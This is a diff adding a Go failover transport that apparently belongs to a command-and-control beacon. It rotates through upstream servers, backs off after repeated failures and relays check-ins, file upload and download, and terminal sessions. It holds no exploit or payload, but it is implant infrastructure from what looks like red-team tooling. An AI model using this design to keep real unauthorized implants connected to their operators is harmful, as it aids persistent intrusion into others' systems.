@@ -0,0 +1,273 @@
+package rbtransport
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"redbull/internal/rbhttp"
+	"sync"
+	"time"
+)
+
+const backoffBase = 5 * time.Second
+
+// Endpoint describes one upstream the beacon can fail over to.
+type Endpoint struct {
+	URL      string `json:"url"`
+	ProxyURL string `json:"proxyUrl"`
+	UseKrb   bool   `json:"useKrb"`
+}
+
+// Dialer builds the transport used to reach an endpoint.
+type Dialer func(Endpoint) (Transport, error)
+
+type EndpointStatus struct {
+	Endpoint
+	Active      bool      `json:"active"`
+	Failures    int       `json:"failures"`
+	LastError   string    `json:"lastError"`
+	LastSuccess time.Time `json:"lastSuccess"`
+}
+
+type upstream struct {
+	endpoint    Endpoint
+	transport   Transport
+	failures    int
+	lastError   string
+	lastSuccess time.Time
+}
+
+// Failover is a Transport over an ordered list of upstreams. It moves to the
+// next upstream after FailoverAfter consecutive failures and, once every
+// upstream has failed in turn, reports an exponential back-off for the beacon
+// to wait before trying again.
+type Failover struct {
+	FailoverAfter int
+	MaxBackoff    time.Duration
+
+	dial      Dialer
+	upstreams []*upstream
+	active    int
+	// exhausted counts full passes over the list without a single success
+	exhausted int
+	switched  int
+	sync.Mutex
+}
+
+func NewFailover(dial Dialer, failoverAfter int, maxBackoff time.Duration, endpoints ...Endpoint) (*Failover, error) {
+	f := &Failover{
+		FailoverAfter: failoverAfter,
+		MaxBackoff:    maxBackoff,
+		dial:          dial,
+	}
+	for _, endpoint := range endpoints {
+		if err := f.Add(endpoint); err != nil {
+			return nil, err
+		}
+	}
+	if len(f.upstreams) == 0 {
+		return nil, errors.New("at least one upstream is required")
+	}
+	return f, nil
+}
+
+// Add appends an upstream to the end of the failover list.
+func (f *Failover) Add(endpoint Endpoint) error {
+	transport, err := f.dial(endpoint)
+	if err != nil {
+		return fmt.Errorf("failed to set up upstream '%s': %w", endpoint.URL, err)
+	}
+
+	f.Lock()
+	defer f.Unlock()
+	f.upstreams = append(f.upstreams, &upstream{endpoint: endpoint, transport: transport})
+	return nil
+}
+
+// Set replaces the upstream at index, keeping its position in the list.
+func (f *Failover) Set(index int, endpoint Endpoint) error {
+	transport, err := f.dial(endpoint)
+	if err != nil {
+		return fmt.Errorf("failed to set up upstream '%s': %w", endpoint.URL, err)
+	}
+
+	f.Lock()
+	defer f.Unlock()
+	if index < 0 || index >= len(f.upstreams) {
+		return fmt.Errorf("no upstream at index %d", index)
+	}
+	f.upstreams[index] = &upstream{endpoint: endpoint, transport: transport}
+	return nil
+}
+
+func (f *Failover) Remove(index int) error {
+	f.Lock()
+	defer f.Unlock()
+
+	if index < 0 || index >= len(f.upstreams) {
+		return fmt.Errorf("no upstream at index %d", index)
+	}
+	if len(f.upstreams) == 1 {
+		return errors.New("cannot remove the only upstream")
+	}
+
+	f.upstreams = append(f.upstreams[:index], f.upstreams[index+1:]...)
+	if f.active > index {
+		f.active--
+	} else if f.active >= len(f.upstreams) {
+		f.active = 0
+	}
+	return nil
+}
+
+// Use makes the upstream at index active immediately.
+func (f *Failover) Use(index int) error {
+	f.Lock()
+	defer f.Unlock()
+
+	if index < 0 || index >= len(f.upstreams) {
+		return fmt.Errorf("no upstream at index %d", index)
+	}
+	f.active = index
+	f.upstreams[index].failures = 0
+	f.exhausted = 0
+	f.switched = 0
+	return nil
+}
+
+func (f *Failover) Active() EndpointStatus {
+	f.Lock()
+	defer f.Unlock()
+	return f.status(f.active)
+}
+
+func (f *Failover) Endpoints() []EndpointStatus {
+	f.Lock()
+	defer f.Unlock()
+
+	statuses := make([]EndpointStatus, len(f.upstreams))
+	for i := range f.upstreams {
+		statuses[i] = f.status(i)
+	}
+	return statuses
+}
+
+func (f *Failover) status(index int) EndpointStatus {
+	u := f.upstreams[index]
+	return EndpointStatus{
+		Endpoint:    u.endpoint,
+		Active:      index == f.active,
+		Failures:    u.failures,
+		LastError:   u.lastError,
+		LastSuccess: u.lastSuccess,
+	}
+}
+
+// Backoff is how long the beacon should wait, on top of its sleep time, before
+// its next attempt. It is zero until every upstream has failed.
+func (f *Failover) Backoff() time.Duration {
+	f.Lock()
+	defer f.Unlock()
+
+	if f.exhausted == 0 {
+		return 0
+	}
+	backoff := backoffBase << min(f.exhausted-1, 16)
+	return min(backoff, f.MaxBackoff)
+}
+
+func (f *Failover) current() (*upstream, Transport) {
+	f.Lock()
+	defer f.Unlock()
+	u := f.upstreams[f.active]
+	return u, u.transport
+}
+
+func (f *Failover) record(u *upstream, err error) {
+	f.Lock()
+	defer f.Unlock()
+
+	if Reachable(err) {
+		u.failures = 0
+		u.lastError = ""
+		u.lastSuccess = time.Now()
+		f.exhausted = 0
+		f.switched = 0
+		return
+	}
+
+	u.failures++
+	u.lastError = err.Error()
+	// Only fail over if this upstream is still the active one; a concurrent
+	// request may already have moved on
+	if u.failures < f.FailoverAfter || f.upstreams[f.active] != u {
+		return
+	}
+
+	u.failures = 0
+	f.active = (f.active + 1) % len(f.upstreams)
+	f.switched++
+	if f.switched >= len(f.upstreams) {
+		f.switched = 0
+		f.exhausted++
+	}
+}
+
+// Reachable reports whether err still proves the server answered, in which
+// case the upstream is healthy even though the request did not succeed.
+func Reachable(err error) bool {
+	if err == nil || errors.Is(err, ErrUnknownSession) || errors.Is(err, ErrNotFound) {
+		return true
+	}
+
+	var statusErr *rbhttp.StatusError
+	if errors.As(err, &statusErr) {
+		return statusErr.StatusCode < 500 && statusErr.StatusCode != http.StatusProxyAuthRequired
+	}
+	return false
+}
+
+func (f *Failover) Register(req rbhttp.RegisterRequest) error {
+	u, t := f.current()
+	err := t.Register(req)
+	f.record(u, err)
+	return err
+}
+
+func (f *Failover) CheckIn(sessionID string, sleepTime int) (*rbhttp.CheckInResponse, error) {
+	u, t := f.current()
+	resp, err := t.CheckIn(sessionID, sleepTime)
+	f.record(u, err)
+	return resp, err
+}
+
+func (f *Failover) SendResults(results []rbhttp.HttpBody) error {
+	u, t := f.current()
+	err := t.SendResults(results)
+	f.record(u, err)
+	return err
+}
+
+func (f *Failover) SendFile(sessionID string, body io.Reader) (string, error) {
+	u, t := f.current()
+	name, err := t.SendFile(sessionID, body)
+	f.record(u, err)
+	return name, err
+}
+
+func (f *Failover) FetchFile(name string) (io.ReadCloser, error) {
+	u, t := f.current()
+	body, err := t.FetchFile(name)
+	f.record(u, err)
+	return body, err
+}
+
+// ExchangePty goes to the active upstream without recording the outcome.
+// Terminals exchange every fraction of a second, so counting their failures
+// would fail over, and back off check-ins, on a hiccup a check-in would never
+// have seen; the beacon's other requests decide when to move on.
+func (f *Failover) ExchangePty(sessionID string, output []rbhttp.PtyOutput) ([]rbhttp.PtyInput, error) {
+	_, t := f.current()
+	return t.ExchangePty(sessionID, output)
+}